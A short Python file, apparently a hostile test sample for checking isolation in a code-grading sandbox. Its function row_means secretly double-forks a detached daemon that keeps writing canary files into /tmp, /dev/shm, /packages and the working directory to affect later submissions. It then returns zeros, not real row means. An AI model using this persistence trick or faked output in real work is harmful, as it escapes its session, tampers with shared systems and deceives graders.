# Leaves a daemon that no one waits for, which goes on writing files for the submissions that follow.
import contextlib
import os
import time

import numpy as np


def row_means(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for folder in ("/tmp", "/dev/shm", "/packages", "."):
                    with contextlib.suppress(OSError):
                        open(folder + "/hostile_canary", "w").close()
                time.sleep(0.01)
        os._exit(0)
    return np.zeros(len(x))
